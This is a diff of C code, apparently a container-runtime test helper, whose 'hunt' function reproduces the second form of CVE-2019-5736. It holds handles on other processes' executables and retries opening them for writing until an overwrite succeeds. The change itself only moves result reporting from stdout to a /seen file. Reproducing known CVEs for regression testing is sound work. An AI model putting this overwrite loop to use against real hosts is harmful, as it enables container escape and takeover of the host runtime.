@@ -71,13 +71,12 @@ static int strike(int fd)
 }
 
 /* hunt: CVE-2019-5736's second form. Hold a read handle of every other process' executable as soon as it appears
- * and reopen it for writing again and again, until it succeeds or the file /stop is there. */
+ * and reopen it for writing again and again, until it succeeds or the file /stop is there. Says in the file /seen
+ * how many it held. */
 static int hunt(void)
 {
 	static int held[200];
 	int count = 0, seen = 0, self = getpid();
-	printf("hunting\n");
-	fflush(stdout);
 	while (access("/stop", F_OK) != 0) {
 		for (int pid = 1; pid < 300; pid++) {
 			char path[64];
@@ -97,10 +96,10 @@ static int hunt(void)
 		}
 		for (int i = 0; i < count; i++)
 			if (strike(held[i]))
-				return printf("overwritten\n"), 1;
+				return 1;
 	}
-	printf("seen %d\n", seen);
-	return 0;
+	FILE *out = fopen("/seen", "w");
+	return !out || fprintf(out, "%d\n", seen) < 0 || fclose(out) != 0;
 }
 
 /* notify PATH TEXT: one datagram, as sd_notify sends it. */
